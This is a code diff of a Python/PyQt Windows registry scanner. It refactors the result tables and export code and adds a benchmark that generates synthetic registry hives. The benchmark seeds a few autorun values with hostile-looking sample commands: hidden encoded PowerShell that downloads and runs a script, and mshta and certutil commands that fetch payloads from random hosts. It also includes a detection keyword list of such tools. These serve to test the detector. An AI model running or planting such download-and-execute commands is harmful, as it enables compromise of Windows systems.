+    def _toggle_group_view(self, kind: str, on: bool):
+        model = self.model_groups_kw if kind == "kw" else self.model_groups_rules
+        if on:
+            model.set_source(self.last_kw if kind == "kw" else self.last_rules_res,
+                             (self.model_kw if kind == "kw" else self.model_rules).highlight)
+            self.status.showMessage(tr("group_status").format(model.rowCount()))
         else:
-            self._apply_table_filter_adv(self.table_rules, cfg)
+            model.set_source([])
+        (self.table_groups_kw if kind == "kw" else self.table_groups_rules).setVisible(on)
+        (self.table_kw if kind == "kw" else self.table_rules).setVisible(not on)
+
+    def _open_group_rows(self, kind: str, index: QModelIndex):
+        g = (self.model_groups_kw if kind == "kw" else self.model_groups_rules).group_at(index.row())
+        if g is None:
+            return
+        (self.model_kw if kind == "kw" else self.model_rules).show_group(g)
+        (self.chk_group_kw if kind == "kw" else self.chk_group_rules).setChecked(False)
+        self.status.showMessage(tr("group_drill").format(g["count"], g["value_name"] or "(Default)"))
 
-    def _open_result_details_row(self, items: List[Dict[str,Any]], item: QTableWidgetItem):
-        row = item.row()
-        if row < 0 or row >= len(items):
+    def _open_result_details_row(self, model: ResultTableModel, index: QModelIndex):
+        it = model.row_at(index.row())
+        if it is None:
             return
-        dlg = ResultDetailsDialog(items[row], self)
+        dlg = ResultDetailsDialog(it, self)
         dlg.exec_()
 
     # ---------- قائمة سياقية على النتائج (تبويبية)
-    def _show_table_context_menu(self, table: QTableWidget, items: List[Dict[str, Any]], pos, table_kind: str):
-        row = table.currentRow()
-        if row < 0 or row >= len(items):
+    def _show_table_context_menu(self, table: QTableView, model: ResultTableModel, pos, table_kind: str):
+        row = table.currentIndex().row()
+        it = model.row_at(row)
+        if it is None:
             return
-        it = items[row]
         menu = QMenu(self)
         act_del = menu.addAction(icon_for_action("delete"), tr("ctx_delete_value"))
         act_edit = menu.addAction(icon_for_action("edit"), tr("ctx_edit_value"))
@@ -2657,9 +8731,9 @@ class Main(QMainWindow):
         if not action:
             return
         if action == act_del:
-            self._ctx_delete_value(it, items, table, row)
+            self._ctx_delete_value(it, model, row)
         elif action == act_edit:
-            self._ctx_edit_value(it, items, table, row)
+            self._ctx_edit_value(it, model, row)
         elif action == act_go:
             self._ctx_go_to_key(it)
         elif action == act_copy_path:
@@ -2669,7 +8743,7 @@ class Main(QMainWindow):
             QApplication.clipboard().setText(it.get("value_str",""))
             QMessageBox.information(self, tr("title"), tr("action_done"))
 
-    def _ctx_delete_value(self, it: Dict[str, Any], items_list: List[Dict[str,Any]], table: QTableWidget, row_index: int):
+    def _ctx_delete_value(self, it: Dict[str, Any], model: ResultTableModel, row_index: int):
         try:
             if not self._confirm(tr("confirm_delete_registry_value")):
                 return
@@ -2679,15 +8753,11 @@ class Main(QMainWindow):
             with winreg.OpenKey(hive, sub, 0, winreg.KEY_SET_VALUE) as k:
                 winreg.DeleteValue(k, it.get("value_name",""))
             QMessageBox.information(self, tr("title"), tr("action_done"))
-            table.removeRow(row_index)
-            try:
-                items_list.remove(it)
-            except ValueError:
-                pass
+            model.remove_row(row_index)
         except Exception as e:
             QMessageBox.warning(self, tr("title"), f"{tr('action_failed')}: {e}")
 
-    def _ctx_edit_value(self, it: Dict[str, Any], items_list: List[Dict[str,Any]], table: QTableWidget, row_index: int):
+    def _ctx_edit_value(self, it: Dict[str, Any], model: ResultTableModel, row_index: int):
         try:
             dlg = QDialog(self); dlg.setWindowTitle(tr("edit_value_title")); dlg.setWindowIcon(icon_for_action("edit")); dlg.resize(520, 180)
             v = QVBoxLayout(dlg)
@@ -2716,39 +8786,13 @@ class Main(QMainWindow):
                 winreg.SetValueEx(k, it.get("value_name",""), 0, vtype, write_val)
             QMessageBox.information(self, tr("title"), tr("action_done"))
             it["value_str"] = new_val
-            if self.current_scan_tab == "kw":
-                if 0 <= row_index < self.table_kw.rowCount():
-                    self.table_kw.item(row_index, 2).setText(new_val)
-            else:
-                if 0 <= row_index < self.table_rules.rowCount():
-                    self.table_rules.item(row_index, 2).setText(new_val)
+            model.update_row(row_index, it)
         except Exception as e:
             QMessageBox.warning(self, tr("title"), f"{tr('action_failed')}: {e}")
 
     def _ctx_go_to_key(self, it: Dict[str, Any]):
         dlg = RegistryBrowserDialog(self)
-        path = it.get("key","")
-        parts = path.split("\\")
-        if parts:
-            def find_child(parent_item, name):
-                for i in range(parent_item.childCount()):
-                    if parent_item.child(i).text(0) == name:
-                        return parent_item.child(i)
-                return None
-            root_name = parts[0]
-            root_item = None
-            for i in range(dlg.tree.topLevelItemCount()):
-                if dlg.tree.topLevelItem(i).text(0) == root_name:
-                    root_item = dlg.tree.topLevelItem(i); break
-            if root_item:
-                dlg.tree.expandItem(root_item); dlg._on_expand(root_item)
-                current = root_item
-                for p in parts[1:]:
-                    dlg.tree.expandItem(current); dlg._on_expand(current)
-                    child = find_child(current, p)
-                    if child:
-                        current = child
-                dlg.tree.setCurrentItem(current)
+        dlg.go_to_path(it.get("key",""))
         dlg.exec_()
 
     # ---------- تصدير
@@ -2802,70 +8846,32 @@ class Main(QMainWindow):
         }
         return header
 
+    def _export_columns(self):
+        """رؤوس الأعمدة ودالة بناء الصف حسب التبويب (لتطابق الجدول المعروض)."""
+        if self.current_scan_tab == "kw":
+            headers = [h for h in tr("tbl_headers") if h not in ([ "Matched rule" ] if LANG=="en" else ["القاعدة المطابقة"])]
+            row_maker = lambda it: [
+                it.get("key",""), it.get("value_name",""), it.get("value_str",""), it.get("matched_kw",""),
+                it.get("value_type",""), it.get("last_mod",""), it.get("owner",""), it.get("state",""),
+                "; ".join(it.get("reasons",[])), it.get("obf_score","")
+            ]
+        else:
+            headers = [h for h in tr("tbl_headers") if h not in ([ "Matched keyword" ] if LANG=="en" else ["الكلمة المطابقة"])]
+            row_maker = lambda it: [
+                it.get("key",""), it.get("value_name",""), it.get("value_str",""),
+                it.get("value_type",""), it.get("last_mod",""), it.get("owner",""), it.get("state",""),
+                it.get("matched_rule",""), "; ".join(it.get("reasons",[])), it.get("obf_score","")
+            ]
+        return headers, row_maker
+
     def _export_excel_for(self, data: List[Dict[str, Any]]):
         if openpyxl is None:
             QMessageBox.warning(self, "تنبيه" if LANG=="ar" else "Note", tr("need_openpyxl")); return
         fname, _ = QFileDialog.getSaveFileName(self, "حفظ Excel" if LANG=="ar" else "Save Excel", str(Path.home()), "Excel (*.xlsx)")
         if not fname: return
         try:
-            header = self._export_report_header()
-            wb = openpyxl.Workbook(); ws = wb.active; ws.title = "RegistryScan"
-            # أنماط
-            title_font = Font(size=14, bold=True)
-            hdr_font = Font(bold=True)
-            wrap = Alignment(wrap_text=True, vertical="top")
-            th_fill = PatternFill("solid", fgColor="EEF2FF")
-            border = Border(left=Side(style="thin", color="CCCCCC"),
-                            right=Side(style="thin", color="CCCCCC"),
-                            top=Side(style="thin", color="CCCCCC"),
-                            bottom=Side(style="thin", color="CCCCCC"))
-
-            ws.cell(row=1, column=1, value=header["title"]).font = title_font
-            ws.cell(row=2, column=1, value=f"{header['time_label']}: {header['time']}")
-            r = 3
-            ws.cell(row=r, column=1, value=header["criteria_label"]).font = hdr_font; r += 1
-            for k, v in header["criteria"].items():
-                ws.cell(row=r, column=1, value=f"{k}: {v}"); r += 1
-            r += 1
-
-            # رؤوس الأعمدة حسب التبويب (لتطابق الجدول المعروض)
-            if self.current_scan_tab == "kw":
-                headers = [h for h in tr("tbl_headers") if h not in ([ "Matched rule" ] if LANG=="en" else ["القاعدة المطابقة"])]
-            else:
-                headers = [h for h in tr("tbl_headers") if h not in ([ "Matched keyword" ] if LANG=="en" else ["الكلمة المطابقة"])]
-
-            for i,h in enumerate(headers, start=1):
-                cell = ws.cell(row=r,column=i,value=h)
-                cell.font = hdr_font
-                cell.fill = th_fill
-                cell.alignment = wrap
-                cell.border = border
-
-            # صفوف البيانات
-            for rr, it in enumerate(data, start=r+1):
-                if self.current_scan_tab == "kw":
-                    row_vals = [
-                        it.get("key",""), it.get("value_name",""), it.get("value_str",""), it.get("matched_kw",""),
-                        it.get("value_type",""), it.get("last_mod",""), it.get("owner",""), it.get("state",""),
-                        "; ".join(it.get("reasons",[]))
-                    ]
-                else:
-                    row_vals = [
-                        it.get("key",""), it.get("value_name",""), it.get("value_str",""),
-                        it.get("value_type",""), it.get("last_mod",""), it.get("owner",""), it.get("state",""),
-                        it.get("matched_rule",""), "; ".join(it.get("reasons",[]))
-                    ]
-                for c,v in enumerate(row_vals, start=1):
-                    cell = ws.cell(row=rr,column=c,value=v)
-                    cell.alignment = wrap
-                    cell.border = border
-
-            max_cols = len(headers)
-            for i in range(1, max_cols+1):
-                col = get_column_letter(i)
-                max_len = max(len(str(cell.value)) if cell.value else 0 for cell in ws[col])
-                ws.column_dimensions[col].width = min(max_len+4, 80)
-            wb.save(fname)
+            headers, row_maker = self._export_columns()
+            write_excel_report(fname, self._export_report_header(), headers, (row_maker(it) for it in data))
             QMessageBox.information(self, tr("title"), f"{tr('saved')}: {fname}")
         except Exception as e:
             QMessageBox.warning(self, tr("title"), str(e))
@@ -2875,27 +8881,9 @@ class Main(QMainWindow):
         if not fname: return
         try:
             header = self._export_report_header()
-            # رؤوس حسب التبويب
-            if self.current_scan_tab == "kw":
-                headers = [h for h in tr("tbl_headers") if h not in ([ "Matched rule" ] if LANG=="en" else ["القاعدة المطابقة"])]
-                row_maker = lambda it: [
-                    it.get("key",""), it.get("value_name",""), it.get("value_str",""), it.get("matched_kw",""),
-                    it.get("value_type",""), it.get("last_mod",""), it.get("owner",""), it.get("state",""),
-                    "; ".join(it.get("reasons",[]))
-                ]
-            else:
-                headers = [h for h in tr("tbl_headers") if h not in ([ "Matched keyword" ] if LANG=="en" else ["الكلمة المطابقة"])]
-                row_maker = lambda it: [
-                    it.get("key",""), it.get("value_name",""), it.get("value_str",""),
-                    it.get("value_type",""), it.get("last_mod",""), it.get("owner",""), it.get("state",""),
-                    it.get("matched_rule",""), "; ".join(it.get("reasons",[]))
-                ]
+            headers, row_maker = self._export_columns()
 
             head_html = "".join(f"<th>{html.escape(h)}</th>" for h in headers)
-            rows_html = []
-            for it in data:
-                vals = row_maker(it)
-                rows_html.append("<tr>" + "".join(f"<td>{html.escape(str(v))}</td>" for v in vals) + "</tr>")
             crit_list = "".join(f"<li><b>{html.escape(k)}:</b> {html.escape(v)}</li>" for k,v in header["criteria"].items())
             doc = f"""<!DOCTYPE html>
 <html lang="{ 'ar' if LANG=='ar' else 'en' }">
@@ -2936,12 +8924,14 @@ caption {{ text-align: { 'right' if LANG=='ar' else 'left' }; font-weight: 700;
 <caption>{html.escape(tr('results'))}</caption>
 <thead><tr>{head_html}</tr></thead>
 <tbody>
-{''.join(rows_html)}
-</tbody>
-</table>
-</body>
-</html>"""
-            Path(fname).write_text(doc, encoding="utf-8")
+"""
+            # الصفوف تُكتب تدفقياً حتى لا تُبنى الوثيقة كاملة في الذاكرة مع مخزن النتائج الكبير
+            with open(fname, "w", encoding="utf-8") as f:
+                f.write(doc)
+                for it in data:
+                    vals = row_maker(it)
+                    f.write("<tr>" + "".join(f"<td>{html.escape(str(v))}</td>" for v in vals) + "</tr>\n")
+                f.write("</tbody>\n</table>\n</body>\n</html>")
             QMessageBox.information(self, tr("title"), f"{tr('saved')}: {fname}")
         except Exception as e:
             QMessageBox.warning(self, tr("title"), str(e))
@@ -2984,9 +8974,697 @@ caption {{ text-align: { 'right' if LANG=='ar' else 'left' }; font-weight: 700;
         box.exec_()
         return box.clickedButton() == ok_btn
 
+# ================ خلايا اصطناعية وقياس أداء الفحص ================
+SYNTH_SEED = 1337
+SYNTH_USER_SID = "S-1-5-21-3623811015-3361044348-30300820-1001"
+BENCH_SIZES = (2000, 20000, 100000)         # عدد المفاتيح التقريبي لكل خلية اصطناعية
+BENCH_KEYWORD_COUNTS = (1, 16, 128)
+BENCH_RULE_COUNTS = (16, 128)
+BENCH_REPEAT = 3                            # تكرارات مقيسة بعد تشغيلة إحماء واحدة؛ يُبلَّغ الوسيط
+BENCH_ROOTS = ("HKEY_LOCAL_MACHINE", "HKEY_USERS")
+BENCH_OUTPUT_FILE = "bench_output.txt"
+
+_SYNTH_VENDORS = ("Microsoft", "Adobe", "Google", "Intel", "NVIDIA", "Realtek", "Oracle", "Mozilla", "VMware",
+                  "Contoso", "Fabrikam", "Citrix", "Logitech", "Dell", "Zoom", "Python", "Git", "7-Zip")
+_SYNTH_WORDS = ("Update", "Client", "Agent", "Settings", "Shared", "Common", "Policies", "Telemetry", "Cache",
+                "Helper", "Service", "Runtime", "Tools", "Plugins", "Profiles", "Components", "Drivers", "Sync")
+_SYNTH_SERVICES = ("Svc", "Host", "Mgr", "Broker", "Monitor", "Provider", "Filter", "Driver")
+# قيم مشبوهة نادرة كي تجد الكلمات والقواعد مطابقات كما في الأجهزة الحقيقية
+_SYNTH_SUSPICIOUS = (
+    'powershell.exe -nop -w hidden -enc {b64}',
+    'rundll32.exe "%APPDATA%\\{name}\\{name}.dll",DllRegisterServer',
+    'mshta http://{host}/{name}.hta',
+    'cmd.exe /c certutil -urlcache -f http://{ip}/{name}.exe %TEMP%\\{name}.exe',
+    'wscript.exe //B "%PUBLIC%\\{name}.vbs"',
+)
+BENCH_KEYWORDS = ("powershell", "rundll32", "mshta", "certutil", "wscript", "regsvr32", "bitsadmin", "schtasks",
+                  "hidden", "appdata", "temp", "public", "http", "downloadstring", "frombase64string", "javascript")
+
+def _synth_guid(rng: random.Random) -> str:
+    return "{%08X-%04X-%04X-%04X-%012X}" % (rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(16),
+                                            rng.getrandbits(16), rng.getrandbits(48))
+
+def _synth_bytes(rng: random.Random, n: int) -> bytes:
+    return rng.getrandbits(n * 8).to_bytes(n, "little")
+
+def _synth_name(rng: random.Random, parts: int = 2) -> str:
+    return "".join(rng.choice(_SYNTH_WORDS) for _ in range(parts))
+
+def _synth_suspicious(rng: random.Random) -> str:
+    name = _synth_name(rng, 1).lower() + str(rng.randint(1, 99))
+    cmd = "IEX (New-Object Net.WebClient).DownloadString('http://%s.xyz/%s')" % (name, _synth_name(rng))
+    return rng.choice(_SYNTH_SUSPICIOUS).format(
+        b64=base64.b64encode(cmd.encode("utf-16-le")).decode("ascii"), name=name,
+        host=f"{name}.{rng.choice(('xyz', 'top', 'ru'))}",
+        ip=".".join(str(rng.randint(1, 254)) for _ in range(4)))
+
+def generate_synthetic_hive(reg: MemoryRegistry, keys: int = 20000, seed: int = SYNTH_SEED) -> Dict[str, int]:
+    """
+    يملأ reg بخلايا HKLM وHKU (وHKCU كعرض لخلية المستخدم) بأشكال السجل الحقيقي: تفرّع CLSID العميق،
+    خدمات بقيم MultiString كبيرة، كتل ثنائية (UserAssist وBags)، مفاتيح مرفوضة (SAM وSECURITY وبعض Security)،
+    ومفاتيح تشغيل تلقائي بقيم مشبوهة نادرة. الناتج حتمي لنفس seed؛ keys عدد المفاتيح التقريبي.
+    """
+    rng = random.Random(seed)
+    W = reg
+    hklm, hku = W.HKEY_LOCAL_MACHINE, W.HKEY_USERS
+    budget = [max(int(keys), 100)]
+
+    def key(hive: int, path: str, denied: bool = False) -> MemoryRegistry.Node:
+        budget[0] -= 1
+        # أزمنة تعديل موزعة على ثلاث سنوات قبل MEMREG_DEFAULT_FILETIME
+        return W.add_key(hive, path, denied, MEMREG_DEFAULT_FILETIME - rng.randrange(3 * 365 * 86400) * 10_000_000)
+
+    def text(rng_len: Tuple[int, int] = (8, 60)) -> str:
+        if rng.random() < 0.002:
+            return _synth_suspicious(rng)
+        n = rng.randint(*rng_len)
+        return " ".join(rng.choice(_SYNTH_WORDS) for _ in range(max(1, n // 8)))[:n]
+
+    def exe_path(ext: str = "exe") -> str:
+        base = rng.choice(("%SystemRoot%\\System32", "C:\\Program Files\\" + rng.choice(_SYNTH_VENDORS),
+                           "C:\\Program Files (x86)\\" + rng.choice(_SYNTH_VENDORS) + "\\" + _synth_name(rng, 1)))
+        return f"{base}\\{_synth_name(rng, 1).lower()}{rng.randint(0, 64)}.{ext}"
+
+    # هيكل ثابت: الجذور، المرفوضات المعروفة، ملف تعريف المستخدم وعرض HKCU
+    W.add_key(hklm, "SAM\\SAM", denied=True)
+    W.add_key(hklm, "SECURITY", denied=True)
+    W.add_key(hklm, "SECURITY\\Policy\\Secrets")
+    prof = key(hklm, PROFILE_LIST_KEY + "\\" + SYNTH_USER_SID)
+    W.put(prof, "ProfileImagePath", "C:\\Users\\bench", W.REG_EXPAND_SZ)
+    key(hku, ".DEFAULT\\Software\\Microsoft\\Windows\\CurrentVersion")
+    W.alias(W.HKEY_CURRENT_USER, hku, SYNTH_USER_SID)
+    for hive, root, n in ((hklm, "SOFTWARE", 24), (hku, SYNTH_USER_SID + "\\Software", 12)):
+        run = key(hive, root + "\\Microsoft\\Windows\\CurrentVersion\\Run")
+        for i in range(n):
+            W.put(run, _synth_name(rng) + str(i), _synth_suspicious(rng) if rng.random() < 0.1 else '"%s" /background' % exe_path(),
+                  W.REG_SZ)
+    order = key(hklm, "SYSTEM\\CurrentControlSet\\Control\\ServiceGroupOrder")
+    W.put(order, "List", [_synth_name(rng) + str(i) for i in range(400)], W.REG_MULTI_SZ)
+    sm = key(hklm, "SYSTEM\\CurrentControlSet\\Control\\Session Manager")
+    W.put(sm, "PendingFileRenameOperations", [f"\\??\\{exe_path('tmp')}" if i % 2 == 0 else "" for i in range(4000)],
+          W.REG_MULTI_SZ)
+
+    # الحصص من عدد المفاتيح: CLSID 45% وخدمات 15% وكتل المستخدم 15% وبرامج المستخدم 10% والباقي برامج الجهاز
+    total = budget[0]
+    clsid_end = total * 0.55
+    svc_end = total * 0.40
+    blob_end = total * 0.25
+    usr_end = total * 0.15
+    while budget[0] > clsid_end:
+        g = _synth_guid(rng)
+        base = "SOFTWARE\\Classes\\CLSID\\" + g
+        W.put(key(hklm, base), "", _synth_name(rng) + " Class", W.REG_SZ)
+        inproc = key(hklm, base + "\\InprocServer32")
+        W.put(inproc, "", exe_path("dll"), W.REG_EXPAND_SZ)
+        W.put(inproc, "ThreadingModel", rng.choice(("Apartment", "Both", "Free")), W.REG_SZ)
+        prog = _synth_name(rng, 1) + "." + _synth_name(rng, 1)
+        W.put(key(hklm, base + "\\ProgID"), "", prog + ".1", W.REG_SZ)
+        W.put(key(hklm, base + "\\VersionIndependentProgID"), "", prog, W.REG_SZ)
+        if rng.random() < 0.3:
+            key(hklm, base + "\\Implemented Categories\\" + _synth_guid(rng))
+        if rng.random() < 0.2:
+            W.put(key(hklm, base + "\\TypeLib"), "", _synth_guid(rng), W.REG_SZ)
+    while budget[0] > svc_end:
+        name = _synth_name(rng, 1) + rng.choice(_SYNTH_SERVICES) + str(rng.randint(0, 999))
+        base = "SYSTEM\\CurrentControlSet\\Services\\" + name
+        svc = key(hklm, base)
+        W.put(svc, "ImagePath", exe_path("sys" if rng.random() < 0.3 else "exe"), W.REG_EXPAND_SZ)
+        W.put(svc, "DisplayName", text((10, 40)), W.REG_SZ)
+        W.put(svc, "Description", text((40, 200)), W.REG_SZ)
+        W.put(svc, "Start", rng.choice((0, 1, 2, 3, 4)), W.REG_DWORD)
+        W.put(svc, "Type", rng.choice((1, 2, 16, 32)), W.REG_DWORD)
+        W.put(svc, "ErrorControl", 1, W.REG_DWORD)
+        if rng.random() < 0.4:
+            W.put(svc, "DependOnService", [_synth_name(rng, 1) + "Svc" for _ in range(rng.randint(1, 6))], W.REG_MULTI_SZ)
+        if rng.random() < 0.15:
+            W.put(svc, "RequiredPrivileges", ["Se%sPrivilege" % _synth_name(rng) for _ in range(rng.randint(10, 60))],
+                  W.REG_MULTI_SZ)
+        if rng.random() < 0.5:
+            W.put(key(hklm, base + "\\Parameters"), "ServiceDll", exe_path("dll"), W.REG_EXPAND_SZ)
+        if rng.random() < 0.3:
+            sec = key(hklm, base + "\\Security", denied=rng.random() < 0.3)
+            W.put(sec, "Security", _synth_bytes(rng, rng.randint(20, 200)), W.REG_BINARY)
+    user = SYNTH_USER_SID + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
+    while budget[0] > blob_end:
+        if rng.random() < 0.5:
+            cnt = key(hku, user + "UserAssist\\" + _synth_guid(rng) + "\\Count")
+            for _ in range(rng.randint(10, 40)):
+                W.put(cnt, codecs.encode(exe_path(), "rot13"), _synth_bytes(rng, 72), W.REG_BINARY)
+        else:
+            bag = key(hku, user + "Bags\\%d\\Shell\\%s" % (rng.randint(1, 5000), _synth_guid(rng)))
+            size = rng.choice((64, 256, 1024, 4096)) if rng.random() < 0.97 else 65536
+            W.put(bag, "Vid", _synth_bytes(rng, size), W.REG_BINARY)
+            W.put(bag, "Mode", rng.randint(1, 8), W.REG_DWORD)
+    while budget[0] > usr_end:
+        base = f"{SYNTH_USER_SID}\\Software\\{rng.choice(_SYNTH_VENDORS)}\\{_synth_name(rng)}"
+        for depth in range(rng.randint(1, 4)):
+            base += "\\" + _synth_name(rng, 1)
+            node = key(hku, base)
+            for _ in range(rng.randint(0, 4)):
+                W.put(node, _synth_name(rng), text(), W.REG_SZ)
+    while budget[0] > 0:
+        base = f"SOFTWARE\\{rng.choice(_SYNTH_VENDORS)}\\{_synth_name(rng)}\\{rng.randint(1, 20)}.{rng.randint(0, 9)}"
+        for depth in range(rng.randint(1, 5)):
+            base += "\\" + _synth_name(rng, 1)
+            node = key(hklm, base, denied=rng.random() < 0.005)
+            for _ in range(rng.randint(0, 5)):
+                r = rng.random()
+                if r < 0.6:
+                    W.put(node, _synth_name(rng), text(), W.REG_SZ)
+                elif r < 0.85:
+                    W.put(node, _synth_name(rng), rng.getrandbits(32), W.REG_DWORD)
+                else:
+                    W.put(node, _synth_name(rng), exe_path(), W.REG_EXPAND_SZ)
+
+    shape = {"keys": 0, "values": 0, "bytes": 0, "denied": 0, "depth": 0}
+    stack = [(W.root(hklm), 0), (W.root(hku), 0)]
+    while stack:
+        node, depth = stack.pop()
+        shape["keys"] += 1
+        shape["denied"] += node.denied
+        shape["depth"] = max(shape["depth"], depth)
+        shape["values"] += len(node.values)
+        for _, data, _ in node.values:
+            shape["bytes"] += len(data) if isinstance(data, (str, bytes)) else sum(map(len, data)) if isinstance(data, list) else 4
+        stack.extend((c, depth + 1) for c in node.keys.values())
+    return shape
+
+def bench_keywords(count: int) -> List[str]:
+    """كلمات القياس: المصطلحات الشائعة أولاً ثم رموز لا تطابق شيئاً، فيقيس العدد كلفة الفهرس لا المطابقات."""
+    words = list(BENCH_KEYWORDS[:count])
+    words.extend(f"ntrebench{i:05d}" for i in range(count - len(words)))
+    return words
+
+def bench_rules(count: int, seed: int = SYNTH_SEED) -> List[RuleSpec]:
+    """قواعد القياس بنفس شكل شروط load_rules_from_filelist: كلمات، وregex في ثلثها، وأدلة في ربعها."""
+    rng = random.Random(seed)
+    levels = ("low", "medium", "high", "critical")
+    art = (("cmd", "*-enc*"), ("url", "*.hta"), ("domain", "*.xyz"), ("path", "*\\appdata\\*.dll"), ("ip", "10.*"))
+    specs: List[RuleSpec] = []
+    for i in range(count):
+        preds: List[Dict[str, Any]] = [{"type": "kw", "value": w}
+                                       for w in rng.sample(BENCH_KEYWORDS, rng.randint(1, 3))]
+        preds.append({"type": "kw", "value": f"ntrerule{i:05d}"})
+        if i % 3 == 0:
+            rx = r"\\%s\\[^\\]+\.(?:dll|exe)$" % rng.choice(("temp", "appdata", "public", f"ntrerx{i}"))
+            preds.append({"type": "re", "value": rx, "compiled": re.compile(rx, re.IGNORECASE)})
+        if i % 4 == 0:
+            preds.append(artifact_predicate(*rng.choice(art)))
+        specs.append(RuleSpec(path=f"bench_{i:05d}.yml", title=f"bench {i}", level=levels[i % 4], enabled=True,
+                              predicates=preds))
+    return specs
+
+def _bench_once(crit: Criteria, rules: List[RuleSpec]) -> Tuple[float, int, int, Dict[str, int]]:
+    global ACCESS_MEMO
+    # ذاكرة الوصول عامة: تصفيرها يجعل كل تشغيلة تدفع كلفة المفاتيح المرفوضة كفحص أول
+    ACCESS_MEMO = AccessMemo()
+    th = RegistryScannerThread(crit, rules)
+    done: Dict[str, Any] = {}
+    errors: List[str] = []
+    th.finished.connect(lambda res, count: done.update(res=res, count=count))
+    th.error.connect(errors.append)
+    t0 = time.perf_counter()
+    th.run()
+    elapsed = time.perf_counter() - t0
+    if errors:
+        raise RuntimeError(errors[0])
+    res = done.get("res")
+    return elapsed, int(done.get("count", 0)), len(res) if hasattr(res, "__len__") else 0, dict(th.stats)
+
+def run_benchmarks(sizes=BENCH_SIZES, keyword_counts=BENCH_KEYWORD_COUNTS, rule_counts=BENCH_RULE_COUNTS,
+                   repeat: int = BENCH_REPEAT, seed: int = SYNTH_SEED, log=print) -> List[Dict[str, Any]]:
+    """
+    يولّد خلية اصطناعية لكل حجم ويوقّت RegistryScannerThread.run كاملاً عليها: وضع الكلمات لكل عدد
+    في keyword_counts ثم وضع القواعد لكل عدد في rule_counts. winreg يُستبدل بالسجل في الذاكرة حتى على
+    ويندوز، ونقطة الحفظ تُوجَّه إلى مجلد مؤقت كي لا يمس القياس فحصاً محفوظاً للمستخدم.
+    """
+    global winreg, CHECKPOINT_FILE, CHECKPOINT_RESULTS_FILE, ACCESS_MEMO
+    saved = (winreg, CHECKPOINT_FILE, CHECKPOINT_RESULTS_FILE, ACCESS_MEMO)
+    tmp = Path(tempfile.mkdtemp(prefix="ntre_bench_"))
+    CHECKPOINT_FILE = tmp / CHECKPOINT_FILE.name
+    CHECKPOINT_RESULTS_FILE = tmp / CHECKPOINT_RESULTS_FILE.name
+    out: List[Dict[str, Any]] = []
+    try:
+        for size in sizes:
+            reg = MemoryRegistry()
+            t0 = time.perf_counter()
+            shape = generate_synthetic_hive(reg, size, seed)
+            gen = time.perf_counter() - t0
+            winreg = reg
+            runs = [("keywords", k, 0) for k in keyword_counts] + [("rules", 0, r) for r in rule_counts]
+            for mode, nkw, nrules in runs:
+                crit = Criteria(keys=list(BENCH_ROOTS), keywords=bench_keywords(nkw),
+                                mode_keywords=mode == "keywords", mode_rules=mode == "rules")
+                rules = bench_rules(nrules, seed)
+                _bench_once(crit, rules)  # إحماء: ذاكرات التعابير والمطابقة
+                times: List[float] = []
+                for _ in range(max(1, int(repeat))):
+                    elapsed, scanned, matches, stats = _bench_once(crit, rules)
+                    times.append(elapsed)
+                med = statistics.median(times)
+                row = {"size": size, "keys": shape["keys"], "values": shape["values"], "bytes": shape["bytes"],
+                       "denied": shape["denied"], "depth": shape["depth"], "gen_sec": round(gen, 3),
+                       "mode": mode, "keywords": nkw, "rules": nrules, "median_sec": med, "min_sec": min(times),
+                       "scanned": scanned, "matches": matches, "keys_per_sec": shape["keys"] / med if med else 0.0,
+                       "values_per_sec": scanned / med if med else 0.0, "open_calls": stats.get("open_calls", 0),
+                       "open_failed": stats.get("open_failed", 0)}
+                out.append(row)
+                log(format_bench_row(row))
+    finally:
+        winreg, CHECKPOINT_FILE, CHECKPOINT_RESULTS_FILE, ACCESS_MEMO = saved
+        shutil.rmtree(tmp, ignore_errors=True)
+    return out
+
+BENCH_HEADER = (f"{'keys':>8} {'values':>8} {'MB':>6} {'mode':<8} {'kw':>4} {'rules':>5} "
+                f"{'median s':>9} {'min s':>8} {'keys/s':>9} {'values/s':>9} {'matches':>7} {'opens':>8} {'failed':>6}")
+
+def format_bench_row(row: Dict[str, Any]) -> str:
+    return (f"{row['keys']:>8} {row['values']:>8} {row['bytes'] / 1048576:>6.1f} {row['mode']:<8} {row['keywords']:>4} "
+            f"{row['rules']:>5} {row['median_sec']:>9.3f} {row['min_sec']:>8.3f} {row['keys_per_sec']:>9.0f} "
+            f"{row['values_per_sec']:>9.0f} {row['matches']:>7} {row['open_calls']:>8} {row['open_failed']:>6}")
+
+def bench_main(argv: List[str]) -> int:
+    """Regestary.py --bench [--sizes 2000,20000] [--keywords 1,16] [--rules 16] [--repeat 3] [--seed N] [--output F]"""
+    import argparse
+    ints = lambda s: tuple(int(x) for x in s.split(",") if x.strip())
+    ap = argparse.ArgumentParser(prog="Regestary.py --bench",
+                                 description="Time RegistryScannerThread end to end on synthetic in-memory hives.")
+    ap.add_argument("--sizes", type=ints, default=BENCH_SIZES, help="approximate keys per hive, comma separated")
+    ap.add_argument("--keywords", type=ints, default=BENCH_KEYWORD_COUNTS, help="keyword counts, comma separated")
+    ap.add_argument("--rules", type=ints, default=BENCH_RULE_COUNTS, help="rule counts, comma separated")
+    ap.add_argument("--repeat", type=int, default=BENCH_REPEAT, help="measured runs per case (median is reported)")
+    ap.add_argument("--seed", type=int, default=SYNTH_SEED)
+    ap.add_argument("--output", default=BENCH_OUTPUT_FILE, help="report file ('' to skip)")
+    args = ap.parse_args(argv)
+    lines = [f"# NTRE scanner benchmark {datetime.now():%Y-%m-%d %H:%M:%S} | Python {platform.python_version()} | "
+             f"{platform.platform()} | numpy={'yes' if HAVE_NUMPY else 'no'} | seed={args.seed} | repeat={args.repeat}",
+             BENCH_HEADER]
+    print("\n".join(lines), flush=True)
+
+    def log(line: str):
+        lines.append(line)
+        print(line, flush=True)
+
+    run_benchmarks(args.sizes, args.keywords, args.rules, args.repeat, args.seed, log)
+    if args.output:
+        Path(args.output).write_text("\n".join(lines) + "\n", encoding="utf-8")
+    return 0
+
+# ================ الفرز الدفعي لمجموعات خلايا الأجهزة ================
+BATCH_DIR = APP_DIR / "batch"
+BATCH_TAB_PREFIX = "batch:"          # runs.tab = batch:<معرّف الدفعة>، وruns.host = اسم الجهاز
+BATCH_ROOTS = ("HKEY_LOCAL_MACHINE", "HKEY_USERS", "HKEY_CURRENT_USER")
+BATCH_HIVE_NAMES = frozenset(REGF_MOUNTS) | frozenset(REGF_USER_HIVES) | {"amcache.hve"}
+BATCH_SKIP_DIRS = frozenset({"regback"})   # نسخ احتياطية تكرر خلايا config نفسها
